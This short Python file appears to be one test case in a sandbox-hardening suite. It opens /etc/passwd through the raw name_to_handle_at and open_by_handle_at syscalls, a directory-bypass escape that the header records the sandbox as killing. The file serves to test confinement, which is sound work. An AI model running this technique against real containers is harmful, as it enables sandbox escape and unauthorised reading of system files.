# attack: by_handle
# does: opens a file by its handle, past every directory
# sealed: killed
# control: through
# control as user: EPERM (needs CAP_DAC_READ_SEARCH)
# as: root, user

from __future__ import annotations

import ctypes
import os

from attack_world import World, call

_NAME_TO_HANDLE_AT, _OPEN_BY_HANDLE_AT, _AT_FDCWD = 303, 304, -100


def attack(_world: World) -> object:
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 8 + 128)
    mount = ctypes.c_int()
    call(_NAME_TO_HANDLE_AT, _AT_FDCWD, b"/etc/passwd", handle, ctypes.byref(mount), 0)
    return call(_OPEN_BY_HANDLE_AT, os.open("/etc", os.O_RDONLY), handle, os.O_RDONLY)
